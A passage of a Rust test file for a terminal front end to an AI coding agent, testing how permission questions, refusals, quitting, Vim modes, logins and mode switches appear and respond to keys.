    s.after(700).press(Code::Tab).draw();
    s.press(Code::Enter).draw();
    assert!(s.shown.contains("choose first"), "{}", s.shown);
    s.press(Code::Esc).draw();
    assert!(!s.shown.contains("choose first"), "{}", s.shown);
    s.after(700).press(Code::Tab).typed("2").draw();
    assert!(s.shown.contains("read to the end first"), "{}", s.shown);
    s.press(Code::Esc).draw();
    assert!(!s.shown.contains("read to the end"), "PageDown is the conversation's again: {}", s.shown);
}

#[test]
fn a_turn_that_made_a_summary_has_not_ended_without_a_word_and_the_summary_is_no_raw_markdown() {
    let mut s = Scene::working(80, 24);
    let compaction = |status: &str, summary| {
        let status = Some(status.to_owned());
        Update::Compaction(CompactionPatch { id: Some("c".into()), status, summary, ..CompactionPatch::default() })
    };
    s.update(compaction("in_progress", Patch::Keep));
    s.update(compaction("completed", Patch::Set("## So far\n\n- **one** thing".into())));
    s.end_turn(Stop::EndTurn);
    s.draw();
    assert!(s.shown.contains("  So far") && s.shown.contains("• one thing"), "{}", s.shown);
    assert!(!s.shown.contains("##") && !s.shown.contains("without a word"), "{}", s.shown);
}

#[test]
fn that_several_entries_can_be_selected_is_said_where_it_can_be_done() {
    let mut s = Scene::working(140, 24);
    s.say("hello");
    s.end_turn(Stop::EndTurn);
    s.press(Code::F(10)).draw();
    assert!(s.shown.contains("v several"), "{}", s.shown);
    s.typed("v").draw();
    assert!(s.shown.contains("y copies all"), "{}", s.shown);
}

#[test]
fn who_reads_on_a_narrow_screen_is_told_what_became_of_a_key() {
    let mut s = Scene::asked(40, 10);
    s.press(Code::F(10)).draw();
    s.ui.say("copied 27 characters (wl-copy)", s.now);
    assert!(s.draw().contains("copied 27 characters (wl-copy)"), "{}", s.shown);
    s.after(5000).draw();
    assert!(s.shown.contains("waiting for you"), "{}", s.shown);
}

#[test]
fn a_list_that_goes_on_says_how_far_one_is() {
    for key in [Key::ctrl(Code::Char('p')), Key::char(':')] {
        let mut s = Scene::ready(100, 24);
        s.key(key).press(Code::Down).press(Code::Down).draw();
        let all = s.ui.picker.as_ref().map_or(0, |picker| picker.matching().len());
        assert!(all > 14 && s.shown.contains(&format!("3 of {all} · ")), "{}", s.shown);
        s.typed("redraw").draw();
        assert!(!s.shown.contains(" of "), "all of them are there: {}", s.shown);
    }
}

#[test]
fn a_digit_that_no_question_takes_is_the_beginning_of_what_is_written_at_once() {
    let mut s = Scene::asked(80, 24);
    s.after(700).press(Code::Tab).typed("1").after(100);
    s.typed("2").after(100).typed("4").after(100).typed(" files");
    assert_eq!(s.ui.view.composer.text(), "24 files", "nothing is asked yet");
    s.ctrl('u').ask(2, "make", &["Allow", "Reject"]);
    s.after(700).press(Code::Tab).typed("1");
    s.ask(3, "make", &["Allow", "Reject"]);
    s.typed("2").input(Input::Hasty(Key::char('3')));
    s.typed("rd file");
    assert_eq!(s.ui.view.composer.text(), "23rd file", "too soon, and together with others");
    // One that answers is none, nor one after which the person has waited.
    let mut s = Scene::asked(80, 24);
    s.after(700).press(Code::Tab).typed("1").after(100);
    s.typed("1").ask(2, "make", &["Allow", "Reject"]);
    s.after(700).typed("1").typed("so");
    assert_eq!((s.answers().len(), s.ui.view.composer.text()), (2, "so"));
    s.ctrl('u').ask(3, "make", &["Allow", "Reject"]);
    s.after(700).press(Code::Tab).typed("1").after(100).typed("1").after(5000).typed("so");
    assert_eq!(s.ui.view.composer.text(), "so");
}

#[test]
fn a_digit_alone_gives_no_answer_that_lasts() {
    use PermissionKind::{AllowAlways, AllowOnce};
    let mut s = Scene::asked(80, 24);
    s.after(700).press(Code::Tab).typed("1");
    ask_by_kind_as(&mut s, 2, &[AllowAlways, AllowOnce]);
    s.after(700).draw();
    s.typed("1");
    assert_eq!(s.answers().len(), 1);
    assert!(s.draw().contains("Alt+1, or Tab first"), "{}", s.shown);
    s.key(Key::alt(Code::Char('1')));
    assert_eq!(s.answers().len(), 2);
}

#[test]
fn what_is_written_ends_that_digits_answer() {
    for way in ["x", "paste", "esc", "late"] {
        let mut s = Scene::asked(80, 24);
        s.after(700).press(Code::Tab).typed("1");
        s.ask(2, "make", &["Allow", "Reject"]);
        s.after(700);
        match way {
            "x" => _ = s.press(Code::Char('x')).press(Code::Backspace),
            "paste" => s.input(Input::Paste("1".into())),
            "esc" => _ = s.press(Code::Esc),
            _ => _ = s.after(10_000),
        }
        s.draw();
        s.typed("1");
        assert_eq!(s.answers().len(), 1, "{way}");
        assert!(s.ui.view.composer.text().contains('1'), "{way}");
        assert!(!s.intents().contains(&Intent::Cancel), "{way}");
    }
}

fn ask_by_kind(s: &mut Scene, kinds: &[PermissionKind]) {
    ask_by_kind_as(s, 1, kinds);
}

fn ask_by_kind_as(s: &mut Scene, req: u64, kinds: &[PermissionKind]) {
    let options = kinds
        .iter()
        .enumerate()
        .map(|(n, kind)| PermissionOption { id: format!("opt-{}", n + 1), name: format!("{n}"), kind: *kind })
        .collect();
    let tool = ToolPatch::new("call".into());
    let request = AgentRequest::Permission { tool, options };
    s.agent(AgentEvent::Request { req: ReqId(req), session: Some(session()), request: request.into() });
    s.draw();
    s.after(700).draw();
}

#[test]
fn letters_answer_by_what_an_option_does_and_only_where_one_alone_does_it() {
    use PermissionKind::{AllowAlways, AllowOnce, RejectAlways, RejectOnce};
    let all = [AllowAlways, RejectOnce, AllowOnce, RejectAlways];
    for (letter, wanted) in [("y", "opt-3"), ("n", "opt-2"), ("A", "opt-1"), ("N", "opt-4")] {
        let mut s = Scene::working(80, 24);
        ask_by_kind(&mut s, &all);
        assert!(s.shown.contains("1 A ") && s.shown.contains("3 y "), "{}", s.shown);
        assert!(s.shown.contains("for good"), "{}", s.shown);
        s.press(Code::Tab).typed(letter);
        assert_eq!(s.answers(), [(1, wanted.to_owned())]);
    }
    let mut s = Scene::working(80, 24);
    ask_by_kind(&mut s, &[AllowOnce, AllowOnce, RejectOnce]);
    assert!(!s.shown.contains("1 y "), "{}", s.shown);
    s.press(Code::Tab).typed("y");
    assert_eq!(s.answers(), []);
    assert!(s.draw().contains("press a digit"), "{}", s.shown);
    s.typed("2");
    assert_eq!(s.answers(), [(1, "opt-2".to_owned())]);
}

#[test]
fn a_digit_with_alt_answers_whatever_is_written() {
    let mut s = Scene::asked(80, 24);
    s.typed("half a thought ");
    s.key(Key::alt(Code::Char('1')));
    assert_eq!(s.answers(), []);
    assert!(s.draw().contains("too soon"), "{}", s.shown);
    s.after(700).key(Key::alt(Code::Char('2')));
    assert_eq!(s.answers(), [(1, "opt-2".to_owned())]);
    assert_eq!(s.ui.view.composer.text(), "half a thought ");
    s.ask(2, "make", &["Allow", "Reject"]);
    s.after(700).typed("1");
    assert_eq!(s.answers().len(), 1, "something is written");
}

#[test]
fn a_refusal_says_why_and_the_reason_is_the_next_prompt() {
    let mut s = Scene::working(80, 24);
    s.typed("later").press(Code::Enter);
    ask_by_kind(&mut s, &[PermissionKind::AllowOnce, PermissionKind::RejectOnce]);
    s.press(Code::Tab).typed("!");
    assert!(s.draw().contains("refuse, because:"), "{}", s.shown);
    s.typed("1 is wrong, ").press(Code::Esc).draw();
    assert_eq!(s.intents().len(), 1, "Esc leaves the question as it is");
    s.press(Code::Char('!')).typed("use 3").press(Code::Enter);
    let reason = "1 is wrong, use 3";
    assert_eq!(s.intents().last(), Some(&Intent::Refuse { req: ReqId(1), reason: reason.into() }));
    assert_eq!(s.model.first().session().held.front().map(|h| h.text.as_str()), Some(reason));
    assert_eq!(s.model.first().session().held.len(), 2);
    s.end_turn(Stop::EndTurn);
    let prompts: Vec<&str> = s.model.first().session().held.iter().map(|h| h.text.as_str()).collect();
    assert_eq!(prompts, ["later"]);
}

#[test]
fn the_reason_of_a_refusal_is_written_right_below_the_answers() {
    for (width, height) in [(120, 40), (80, 24), (40, 24), (40, 10)] {
        let mut s = Scene::asked(width, height);
        s.after(700).press(Code::Tab).typed("!").draw();
        let row = |s: &Scene, words: &str| s.shown.lines().position(|line| line.contains(words));
        let (answers, field) = (row(&s, "Reject"), row(&s, "refuse, because:"));
        assert!(answers.is_some() && field == answers.map(|row| row + 1), "{}", s.shown);
        let below = s.shown.lines().nth(field.unwrap_or_default() + 1).unwrap_or_default();
        assert!(below.starts_with("┃ Enter refuses") && below.contains("Esc leaves"), "{}", s.shown);
        assert!(s.typed("no, x").draw().contains("refuse, because: no, x"), "{}", s.shown);
    }
}

#[test]
fn a_reason_whose_question_has_gone_is_kept_as_text() {
    let mut s = Scene::asked(80, 24);
    s.after(700).press(Code::Tab).typed("!no, the other");
    s.agent(AgentEvent::RequestWithdrawn(ReqId(1)));
    assert_eq!(s.ui.view.composer.text(), "no, the other");
    assert_eq!(s.intents(), []);
}

#[test]
fn a_second_esc_of_who_leaves_a_question_stops_nothing() {
    let mut s = Scene::asked(80, 24);
    s.press(Code::Tab).press(Code::Esc).after(599).press(Code::Esc);
    assert_eq!(s.intents(), []);
    s.after(1).press(Code::Esc);
    assert_eq!(s.intents(), [Intent::Cancel]);
}

#[test]
fn quitting_asks_while_something_is_alive() {
    let mut s = Scene::working(80, 24);
    s.ctrl('d');
    assert_eq!(s.outs, []);
    assert!(s.draw().contains("a turn runs · Ctrl+D again quits"), "{}", s.shown);
    s.ctrl('d');
    assert_eq!(s.outs, [Out::Quit]);
}

#[test]
fn ctrl_c_and_ctrl_d_quit_only_when_they_have_asked_themselves() {
    let mut s = Scene::working(80, 24);
    s.ctrl('d').ctrl('c');
    assert_eq!(s.intents(), [Intent::Cancel], "{:?}", s.outs);
    assert!(s.draw().contains("Ctrl+C again quits"), "{}", s.shown);
    s.outs.clear();
    s.ctrl('d');
    assert_eq!(s.outs, [], "it asks anew");
    assert!(s.draw().contains("Ctrl+D again quits"), "{}", s.shown);
    s.ctrl('d');
    assert_eq!(s.outs, [Out::Quit]);
}

#[test]
fn quitting_says_that_prompts_wait() {
    let mut s = Scene::working(80, 24);
    s.typed("then").press(Code::Enter).ctrl('d');
    assert!(s.draw().contains("a turn runs, and prompts wait · Ctrl+D again quits"), "{}", s.shown);
    s.press(Code::Esc);
    s.press(Code::Esc);
    s.end_turn(Stop::Cancelled);
    s.outs.clear();
    s.ctrl('d');
    assert!(s.draw().contains("prompts wait that were not sent · Ctrl+D again quits"), "{}", s.shown);
    assert_eq!(s.outs, []);
    s.ctrl('d');
    assert_eq!(s.outs, [Out::Quit]);
}

#[test]
fn which_key_quits_or_closes_is_seen_on_a_small_screen_however_much_waits() {
    let mut s = Scene::working(40, 10);
    s.typed("then").press(Code::Enter).ctrl('d');
    assert!(s.draw().contains("Ctrl+D again quits"), "{}", s.shown);
    s.ask(1, "make", &["Allow", "Reject"]);
    s.after(3000).ctrl('d');
    assert!(s.draw().contains("Ctrl+D again quits"), "{}", s.shown);
    s.after(3000);
    s.ui.say_while(Holds::CloseArmed, "it works · Alt+W again closes the session · Esc keeps it", s.now);
    assert!(s.draw().contains("Alt+W again closes the session"), "{}", s.shown);
}

/// Presses what `keys` says while questions come and go, and returns what went out beside prompts.
fn prose(s: &mut Scene, prose: &[u8], keys: Vec<(u8, u64, bool)>) -> Vec<Intent> {
    let mut req = 0;
    for (n, (at, pause, asks)) in keys.into_iter().enumerate() {
        if asks && n % 3 == 0 {
            req += 1;
            s.ask(req, "make", &["Allow", "Reject"]);
        } else if n % 7 == 6 && req > 0 {
            s.agent(AgentEvent::RequestWithdrawn(ReqId(req)));
        }
        s.after(pause);
        if n % 2 == 0 {
            s.draw();
        }
        match n % 11 {
            4 => s.input(Input::Paste("1 y\r2".into())),
            7 => _ = s.key(Key::alt(Code::Char('b'))),
            9 => _ = s.key(Key::alt(Code::Backspace)),
            _ => {}
        }
        s.press(match char::from(prose[usize::from(at) % prose.len()]) {
            '\n' => Code::Enter,
            '\u{1b}' => Code::Esc,
            c => Code::Char(c),
        });
    }
    // A line that begins with ! is a command of the person's.
    s.intents().into_iter().filter(|i| !matches!(i, Intent::Prompt { .. } | Intent::Shell(_))).collect()
}

proptest! {
    #![proptest_config(crate::random(60))]
    /// Text typed and pasted at any speed, with keys that move in it, while questions come and go never answers one.
    #[test]
    fn prose_never_answers(keys in prop::collection::vec((0u8..40, 0u64..900, any::<bool>()), 1..120)) {
        let mut s = Scene::working(80, 24);
        let others = prose(&mut s, b"yes 1 no 2 A 3 N! then 4 use y n 9 steps\n", keys);
        prop_assert_eq!(others, []);
    }

    /// Nor do Vim's commands, also right after an answer by hand, when a digit would answer the next question.
    #[test]
    fn commands_of_vim_never_answer(keys in prop::collection::vec((0u8..60, 0u64..900, any::<bool>()), 1..120)) {
        let mut s = Scene::working(80, 24);
        s.ui.keys = std::sync::Arc::new(Keymap::read("preset = \"vim\"", "keys.toml").0);
        s.press(Code::Esc);
        s.ask(100, "make", &["Allow", "Reject"]);
        s.draw();
        s.press(Code::Tab).after(900).draw();
        s.press(Code::Char('1'));
        prop_assert_eq!(s.answers().len(), 1);
        s.outs.clear();
        let others = prose(&mut s, b"1dw2yy 3p4x5.6u7Vjd8vey9p1fey n A N!dd12ywgUU>>r1~2JiwciwZZ", keys);
        prop_assert_eq!(others, []);
    }
}

#[test]
fn vim_has_its_modes_where_prompts_are_written() {
    let mut s = Scene::working(80, 24);
    s.ui.keys = std::sync::Arc::new(Keymap::read("vim = true", "keys.toml").0);
    s.typed("one two");
    assert!(s.draw().contains(" INSERT "), "{}", s.shown);
    s.press(Code::Esc);
    assert!(s.draw().contains(" NORMAL "), "{}", s.shown);
    s.typed("2");
    assert!(s.draw().contains(" NORMAL 2"), "{}", s.shown);
    s.press(Code::Esc);
    s.typed("0cwthree");
    assert_eq!(s.ui.view.composer.text(), "three two");
    assert_eq!(s.intents(), [], "Esc is the mode's as long as there is one to leave");
    s.press(Code::Esc);
    s.typed("v");
    assert!(s.draw().contains(" VISUAL "), "{}", s.shown);
    s.typed("\"+y");
    assert_eq!(s.outs, [Out::Copy(What::Characters(1), "e".into())]);
    s.outs.clear();
    s.press(Code::Enter);
    assert!(matches!(&s.intents()[..], [Intent::Prompt { text, .. }] if text == "three two"), "{:?}", s.outs);
    assert!(s.draw().contains(" INSERT "), "{}", s.shown);
    s.outs.clear();
    s.press(Code::Esc).press(Code::Esc);
    assert_eq!(s.intents(), [Intent::Cancel]);
}

#[test]
fn tab_goes_to_the_question_whatever_command_of_vim_was_begun() {
    let mut s = Scene::asked(80, 24);
    s.ui.keys = std::sync::Arc::new(Keymap::read("vim = true", "keys.toml").0);
    s.press(Code::Esc).typed("2");
    assert!(s.draw().contains(" NORMAL 2"), "{}", s.shown);
    s.press(Code::Tab);
    assert_eq!(s.ui.view.focus, Focus::Dock);
}

#[test]
fn esc_and_the_key_behind_it_are_no_alt_key_where_vim_inserts() {
    let mut s = Scene::asked(80, 24);
    s.ui.keys = std::sync::Arc::new(Keymap::read("vim = true", "keys.toml").0);
    s.after(3_000).typed("one");
    for c in ['1', 'p', 'g'] {
        s.key(Key { code: Code::Char(c), mods: Mods { alt: true, ..Mods::default() } });
        assert_eq!((s.intents(), s.ui.view.focus.clone()), (Vec::new(), Focus::Composer), "{c}");
        assert!(s.draw().contains(" NORMAL "), "{}", s.shown);
        s.typed("i");
    }
}

#[test]
fn a_withdrawn_request_gives_the_focus_back_with_a_word() {
    let mut s = Scene::asked(80, 24);
    s.press(Code::Tab).after(700);
    s.agent(AgentEvent::RequestWithdrawn(ReqId(1)));
    assert_eq!(s.ui.view.focus, Focus::Composer);
    assert!(s.draw().contains("no longer asked"), "{}", s.shown);
}

#[test]
fn the_focus_is_not_handed_to_another_sort_of_dialog() {
    let mut s = Scene::asked(80, 24);
    s.press(Code::Tab).after(700);
    let exit = Exit { code: Some(3), signal: None };
    s.event(Event::Host(HostEvent::AgentExited { exit, stderr: vec!["boom".into()] }));
    assert_eq!(s.ui.view.focus, Focus::Composer);
    s.typed("r");
    assert_eq!(s.ui.view.composer.text(), "r");
}

#[test]
fn a_dead_agent_is_started_again_from_the_dock_only() {
    let mut s = Scene::working(80, 24);
    s.typed("kept");
    let exit = Exit { code: Some(3), signal: None };
    s.event(Event::Host(HostEvent::AgentExited { exit, stderr: vec!["boom".into()] }));
    assert!(s.draw().contains("r start it again"), "{}", s.shown);
    assert!(s.last_row().contains("Tab, then r starts it again"), "{}", s.shown);
    s.typed(" r");
    assert_eq!(s.intents(), []);
    s.press(Code::Tab).after(700).draw();
    s.typed("r");
    assert_eq!(s.intents(), [Intent::Restart]);
    assert_eq!(s.ui.view.composer.text(), "kept r");
    assert_eq!(s.ui.view.focus, Focus::Composer);
}

#[test]
fn a_silent_start_offers_its_messages_and_its_end() {
    let mut s = Scene::new(80, 24);
    s.start();
    s.after(59_000).draw();
    assert_eq!(s.ui.view.dock.dialog, None);
    s.after(2000).draw();
    assert!(s.last_row().contains("no answer for 1:01 · Tab, then s shows its messages, q ends it"), "{}", s.shown);
    s.typed("sq");
    assert_eq!(s.ui.view.composer.text(), "sq");
    s.press(Code::Tab).after(700).draw();
    s.typed("s");
    assert_eq!(s.ui.view.dock.all_stderr, crate::ui::state::dock::Raw::Shown);
    s.typed("q");
    assert_eq!(s.intents(), [Intent::KillAgent]);
}

fn logged_out() -> Scene {
    let mut s = Scene::new(80, 24);
    s.start();
    let method = |id: &str, name: &str, kind| AuthMethod { id: id.into(), name: name.into(), description: None, kind };
    s.agent(AgentEvent::Initialized(Ok(InitResult {
        auth_methods: vec![
            method("web", "Log in with Example", AuthKind::Agent),
            method("tty", "In a terminal", AuthKind::Terminal { args: vec!["--login now".into()], env: Vec::new() }),
        ],
        ..InitResult::default()
    })));
    s.agent(AgentEvent::SessionOpened(Err(CallError::new(ErrorKind::AuthRequired, "Please log in"))));
    s
}

#[test]
fn a_value_for_a_log_in_is_for_this_run_unless_tab_has_said_otherwise() {
    for (tabs, keep) in [(0, Keep::ThisRun), (1, Keep::InKeyring), (2, Keep::ThisRun)] {
        let mut s = Scene::new(80, 24);
        s.start();
        let kind = AuthKind::Env { vars: vec!["A_KEY".into()], open: Vec::new() };
        let method = AuthMethod { id: "key".into(), name: "By key".into(), description: None, kind };
        s.agent(AgentEvent::Initialized(Ok(InitResult { auth_methods: vec![method], ..InitResult::default() })));
        s.agent(AgentEvent::SessionOpened(Err(CallError::new(ErrorKind::AuthRequired, "Please log in"))));
        s.draw();
        s.press(Code::Tab).after(700).draw();
        s.typed("1").draw();
        for _ in 0..tabs {
            s.press(Code::Tab);
        }
        let words = ["Tab: in the system's keyring · Esc leaves", "Tab: for this run only · Esc leaves"];
        assert!(s.draw().contains(words[usize::from(keep == Keep::InKeyring)]), "{}", s.shown);
        s.typed("hunter2").press(Code::Enter);
        let values = vec![("A_KEY".to_owned(), Secret("hunter2".to_owned()))];
        assert_eq!(s.outs.last(), Some(&Out::LogInWith { method: "key".into(), values, keep }));
    }
}

#[test]
fn the_account_stands_above_the_first_prompt_and_in_the_list_of_options_cleaned() {
    for size in [(80, 24), (120, 40), (60, 12)] {
        let mut s = Scene::ready(size.0, size.1);
        assert!(!s.draw().contains("Account"));
        let account = |label: &str, active| Account {
            label: label.into(),
            is_active: active,
            email: Some("dev@\u{1b}[31mexample.org\n".into()),
            ..Account::default()
        };
        let accounts = vec![account("Other", None), account("Example Pro", Some(true))];
        let status = AuthStatus { state: AuthState::Authenticated, accounts };
        s.event(Event::Agent(AgentEvent::AuthStatus(Ok(status))));
        assert!(s.draw().contains("Account   Example Pro · dev@"), "{}", s.shown);
        s.press(Code::F(2)).typed("account").draw();
        assert!(s.shown.contains("Example Pro · dev@"), "{}", s.shown);
        assert!(s.shown.contains("1 more") || size.0 < 80, "{}", s.shown);
        s.press(Code::Enter);
        assert_eq!(s.intents(), [Intent::AskAuthStatus]);
        let status = AuthStatus { state: AuthState::Unauthenticated, accounts: Vec::new() };
        s.event(Event::Agent(AgentEvent::AuthStatus(Ok(status))));
        assert!(s.draw().contains("Account   not logged in"), "{}", s.shown);
        s.event(Event::Agent(AgentEvent::AuthStatus(Ok(AuthStatus::default()))));
        assert!(!s.draw().contains("Account"), "{}", s.shown);
    }
}

#[test]
fn what_the_keyring_has_and_the_servers_of_a_session_stand_in_the_list_of_options() {
    let mut s = Scene::ready(120, 40);
    s.event(Event::Host(HostEvent::KeyringGave { vars: vec!["A_KEY".into()] }));
    s.event(Event::Host(HostEvent::ServersFound(vec!["db".into()])));
    s.press(Code::F(2)).typed("log out").draw();
    assert!(s.shown.contains("A_KEY is removed from the keyring"), "{}", s.shown);
    s.press(Code::Enter);
    assert_eq!(s.intents(), [Intent::LogOut]);
    s.press(Code::F(2)).typed("db").draw();
    assert!(s.shown.contains("on; choose it to change that for when the session is opened again"), "{}", s.shown);
    s.press(Code::Enter);
    assert_eq!(s.intents().last(), Some(&Intent::SwitchServer { name: "db".into(), on: false }));
}

#[test]
fn ctrl_d_in_the_dock_quits_unless_something_is_written() {
    let ctrl_d = Key::ctrl(Code::Char('d'));
    let mut s = logged_out();
    s.draw();
    s.typed("words").key(Key::alt(Code::Char('p'))).after(700).draw();
    assert_eq!(s.ui.view.focus, Focus::Dock);
    s.key(ctrl_d).draw();
    assert!(!s.outs.contains(&Out::Quit));
    assert!(s.shown.contains("something is written · Ctrl+C clears it"), "{}", s.shown);
    s.ui.view.composer.clear();
    s.key(ctrl_d);
    assert!(s.outs.contains(&Out::Quit));
}

#[test]
fn a_log_in_is_chosen_by_digit_and_left_with_esc() {
    let mut s = logged_out();
    assert!(s.draw().contains("gemini --acp '--login now'"), "{}", s.shown);
    assert!(s.shown.contains("Please log in"));
    s.typed("1");
    assert_eq!(s.ui.view.composer.text(), "1");
    s.press(Code::Tab).after(700).draw();
    s.press(Code::Down).press(Code::Down).typed("c");
    assert!(s.outs.contains(&Out::Copy(What::Command, "gemini --acp '--login now'".into())));
    s.typed("1");
    assert_eq!(s.intents(), [Intent::Authenticate { method: "web".into() }]);
    assert!(s.draw().contains("logging in: Log in with Example"), "{}", s.shown);
    // Its keys go on to be meant for it, and no letter is written by them.
    assert_eq!(s.ui.view.focus, Focus::Dock);
    s.after(700).draw();
    assert!(s.shown.lines().last().unwrap().contains("x leaves"), "{}", s.shown);
    s.typed("zc").draw();
    assert_eq!(s.ui.view.composer.text(), "1");
    s.press(Code::Esc);
    assert_eq!(s.ui.view.focus, Focus::Composer);
    assert_eq!(s.intents().len(), 1, "it goes on");
    s.after(3000).press(Code::Esc);
    assert_eq!(s.intents().last(), Some(&Intent::LeaveAuthentication));
    s.draw();
    s.press(Code::Tab).after(700).draw();
    s.typed("r");
    assert_eq!(s.intents().last(), Some(&Intent::Restart));
}

#[test]
fn options_that_were_not_on_the_screen_cannot_be_chosen() {
    let mut s = Scene::working(12, 3);
    s.ask(1, "something long to ask about", &["Allow everything", "Reject everything"]);
    s.press(Code::Tab).after(700).draw();
    let seen = s.info.options.clone();
    s.typed("2");
    assert_eq!(s.answers().is_empty(), !seen.contains(&1), "{}", s.shown);
}

#[test]
fn shift_tab_asks_for_the_next_mode_once_it_rests() {
    let mut s = Scene::ready(80, 24);
    s.press(Code::BackTab);
    assert!(s.intents().is_empty() && s.draw().contains("plan…"), "{}", s.shown);
    s.after(399);
    assert_eq!(s.intents(), []);
    s.after(1);
    assert_eq!(s.intents(), [Intent::SetMode { id: "plan".into() }]);
    assert!(s.draw().contains("plan…") && !s.shown.contains("mode:"), "not said before it is so: {}", s.shown);
    s.agent(AgentEvent::ModeSet { mode: "plan".into(), result: Ok(()) });
    assert!(s.draw().contains("mode: plan"), "{}", s.shown);
    s.press(Code::BackTab).after(400);
    assert!(!s.draw().contains("mode: plan"), "another is asked for: {}", s.shown);
    assert_eq!(s.intents().last(), Some(&Intent::SetMode { id: "default".into() }));
    let mut s = Scene::new(80, 24);
    s.press(Code::BackTab);
    assert_eq!(s.intents(), []);
    assert!(s.draw().contains("no session yet"));
}

#[test]
fn alt_that_arrives_as_a_letter_is_told_once_and_never_where_one_writes() {
    let said = |typed: &str| {
        let mut s = Scene::ready(120, 24);
        s.typed(typed);
        assert_eq!(s.ui.view.composer.text(), typed, "nothing is swallowed");
        s.draw().lines().last().unwrap().to_owned()
    };
    assert!(said("±").contains("Alt+1 arrived as ±") && said("òò").contains("Alt+R arrived as ò"), "{}", said("òò"));
    assert!(said("òò").contains("F3: review what was changed"), "{}", said("òò"));
    for words in ["ò", "écris", "ändere das", "ça va", "x ±", "aòò", "¿", "él", "öö"] {
        assert!(!said(words).contains("arrived"), "{words}");
    }
    let mut s = Scene::asked(120, 24);
    s.draw();
    s.typed("ð");
    assert!(s.draw().contains("Alt+P arrived as ð"), "{}", s.shown);
    s.press(Code::Backspace).after(5000).typed("ð");
    assert!(!s.draw().contains("arrived"), "once: {}", s.shown);
}

#[test]
fn esc_that_leaves_a_list_and_comes_twice_stops_no_turn() {
    let leave: [fn(&mut Scene); 7] = [
        |s| _ = s.press(Code::Up),
        |s| _ = s.press(Code::F(1)),
        |s| _ = s.press(Code::F(2)),
        |s| _ = s.press(Code::F(8)),
        |s| _ = s.press(Code::F(10)),
        |s| _ = s.ctrl('p'),
        |s| _ = s.typed("!"),
    ];
    for (at, go) in leave.into_iter().enumerate() {
        let mut s = Scene::working(100, 30);
        s.intent(Intent::Prompt { text: "and then".into(), links: Vec::new() });
        s.draw();
        go(&mut s);
        s.draw();
        s.press(Code::Esc).after(300).press(Code::Esc);
        assert!(!s.intents().contains(&Intent::Cancel), "{at}");
        s.after(700).press(Code::Esc);
        assert!(s.intents().contains(&Intent::Cancel), "{at}: later it does");
    }
}

#[test]
fn ctrl_c_at_a_question_says_nothing_that_is_over_when_it_is_read() {
    let mut s = Scene::asked(100, 24);
    s.draw();
    s.ctrl('c');
    assert!(s.intents().contains(&Intent::Cancel), "{}", s.shown);
    assert!(s.draw().contains("Ctrl+C again quits") && !s.shown.contains("a question waits"), "{}", s.shown);
}

#[test]
fn what_cannot_be_done_now_comes_last_in_the_palette() {
    let mut s = Scene::ready(100, 40);
    s.ctrl('p');
    let labels: Vec<String> = s.ui.picker.as_ref().unwrap().matching().iter().map(|row| row.label.clone()).collect();
    let at = |words: &str| labels.iter().position(|label| label.starts_with(words)).unwrap();
    let last = at("kill the newest command").min(at("send into the running turn")).min(at("the next session"));
    assert!(at("modes and options") < last && at("mode") < last && !labels[0].contains("running turn"), "{labels:?}");
    s.typed("send into").press(Code::Enter);
    assert!(s.draw().contains("write first what is to be sent"), "{}", s.shown);
}

#[test]
fn a_mode_that_was_refused_is_passed_by_and_told_in_a_row() {
    let mut s = Scene::new(120, 24);
    s.start();
    s.agent(AgentEvent::Initialized(Ok(InitResult::default())));
    let mode = |id: &str, name: &str| Mode { id: id.into(), name: name.into(), description: None };
    let available = vec![mode("default", "Default"), mode("autoEdit", "Auto Edit"), mode("plan", "Plan")];
    let modes = Some(Modes { current: "default".into(), pending: None, available });
    s.agent(AgentEvent::SessionOpened(Ok(Box::new(SessionResult {
        id: session(),
        modes,
        options: None,
        model: None,
        commands: None,
        earlier: 0,
    }))));
    let set = |id: &str| Intent::SetMode { id: id.into() };
    let refuse = |s: &mut Scene| {
        let mut error = CallError::new(ErrorKind::Other, "Internal error");
        error.data = Some(serde_json::json!({ "details": "the folder is not trusted" }));
        s.agent(AgentEvent::ModeSet { mode: "autoEdit".into(), result: Err(error) });
    };
    s.press(Code::BackTab).press(Code::BackTab).press(Code::BackTab).press(Code::BackTab).after(400);
    assert_eq!(s.intents(), [set("autoEdit")], "the last that was come to, once");
    refuse(&mut s);
    let said = "mode Auto Edit was not set: Internal error: the folder is not trusted";
    assert!(s.draw().lines().last().unwrap().contains(said), "{}", s.shown);
    assert!(!s.shown.contains("details"), "{}", s.shown);
    s.press(Code::BackTab).after(400);
    assert_eq!(s.intents().last(), Some(&set("plan")));
    s.agent(AgentEvent::ModeSet { mode: "plan".into(), result: Ok(()) });
    s.press(Code::BackTab).press(Code::BackTab).typed("x");
    assert_eq!(
        s.intents().last(),
        Some(&set("autoEdit")),
        "another was set, so it is tried again; at once when one goes on"
    );
}

#[test]
fn shift_tab_passes_over_a_mode_in_which_nothing_is_asked() {
    let mut s = Scene::new(100, 24);
    s.start();
    s.agent(AgentEvent::Initialized(Ok(InitResult::default())));
    let mode = |id: &str, name: &str| Mode { id: id.into(), name: name.into(), description: None };
    let available = vec![mode("ask", "Ask"), mode("full-access", "Full Access"), mode("plan", "Plan")];
    let modes = Some(Modes { current: "ask".into(), pending: None, available });
    s.agent(AgentEvent::SessionOpened(Ok(Box::new(SessionResult {
        id: session(),
        modes,
        options: None,
        model: None,
        commands: None,
        earlier: 0,
    }))));
    s.press(Code::BackTab).after(400);
    assert_eq!(s.intents(), [Intent::SetMode { id: "plan".into() }]);
    assert!(s.draw().contains("Full Access asks nothing, so it is left out: F2 sets it"), "{}", s.shown);
}

#[test]
fn without_modes_the_option_of_category_mode_is_switched() {
    let mut s = Scene::new(80, 24);
    s.start();
    s.agent(AgentEvent::Initialized(Ok(InitResult::default())));
    let choice = |v: &str| Choice { value: v.into(), name: v.to_uppercase(), description: None, group: None };
    s.agent(AgentEvent::SessionOpened(Ok(Box::new(SessionResult {
        id: session(),
        modes: None,
        options: Some(vec![ConfigOption {
            id: "m".into(),
            name: "Mode".into(),
            description: None,
            category: Some("mode".into()),
            kind: OptionKind::Select { current: "ask".into(), values: vec![choice("ask"), choice("code")] },
            pending: None,
        }]),
        model: None,
        commands: None,
        earlier: 0,
    }))));
    s.press(Code::BackTab).after(400);
    assert_eq!(s.intents(), [Intent::SetOption { id: "m".into(), value: OptionValue::Id("code".into()) }]);
    assert!(s.draw().contains("CODE…"), "{}", s.shown);
    s.agent(AgentEvent::OptionSet { option: "m".into(), value: OptionValue::Id("code".into()), result: Ok(None) });
    assert!(s.draw().contains("mode: CODE"), "{}", s.shown);
}

#[test]
fn r_197_where_modes_and_an_option_of_that_category_are_given_the_option_is_followed() {
